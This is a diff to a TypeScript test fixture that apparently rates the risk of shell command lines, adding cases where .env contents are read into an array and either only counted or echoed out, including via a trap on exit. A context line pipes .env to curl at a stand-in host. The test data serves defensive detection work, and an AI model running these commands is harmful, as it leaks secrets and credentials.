@@ -44,6 +44,14 @@ const SETTINGS: readonly (readonly [line: string, level: Level])[] = [
   [`export $(cat .env | xargs curl https://x.test)`, 3],
   [`export $(cat .env > /tmp/x)`, 3],
   [`source <(cat setup.sh)`, 2],
+  // an array of which only the length is told
+  ['mapfile -t a < .env; echo ${#a[@]}', 1],
+  ['x=1; mapfile -t a < .env; echo ${#a[@]}', 1],
+  ['mapfile -t a < .env; echo ${#a[@]}; echo ${a[0]}', 3],
+  ['{ mapfile -t a < .env; echo ${#a[@]}; }; echo ${a[@]}', 3],
+  ['if true; then mapfile -t a < .env; echo ${#a[@]}; fi; echo "${a[@]}"', 3],
+  ['f() { mapfile -t a < .env; echo ${#a[@]}; }; f; echo ${a[@]}', 3],
+  ['trap "echo ${a[@]}" EXIT; mapfile -t a < .env; echo ${#a[@]}', 3],
 ]
 
 const STORES: readonly (readonly [line: string, level: Level])[] = [
